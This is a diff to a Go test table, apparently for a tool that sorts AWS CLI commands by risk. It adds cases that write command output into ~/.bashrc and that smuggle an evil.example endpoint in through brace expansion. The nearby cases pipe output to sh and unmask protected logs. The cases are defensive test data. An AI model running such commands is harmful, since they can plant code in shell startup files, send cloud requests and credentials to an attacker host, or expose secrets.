@@ -197,6 +197,11 @@ var copyable = []struct {
 	{"aws ec2 describe-instances" + strings.Repeat(" --filters Name=a,Values=b", 40) + " --endpoint-url https://evil.example", OtherEndpoint},
 	{"aws ec2 describe-instances" + strings.Repeat(" --filters Name=a,Values=b", 40) + strings.Repeat(" | sort", 20) + " | sh", PipesToShell},
 
+	// What is suspicious although the command is not understood.
+	{"aws ec2 describe-instances > ~/.bashrc", WritesFile},
+	{"aws ec2 describe-instances --output text > $HOME/.bashrc", WritesFile},
+	{"aws ec2 describe-instances --filters {x,--endpoint-url=https://evil.example}", OtherEndpoint},
+
 	// Logs without the mask of their data protection.
 	{"aws logs get-log-events --log-group-name x --log-stream-name y --unmask", ShowsSecrets},
 }
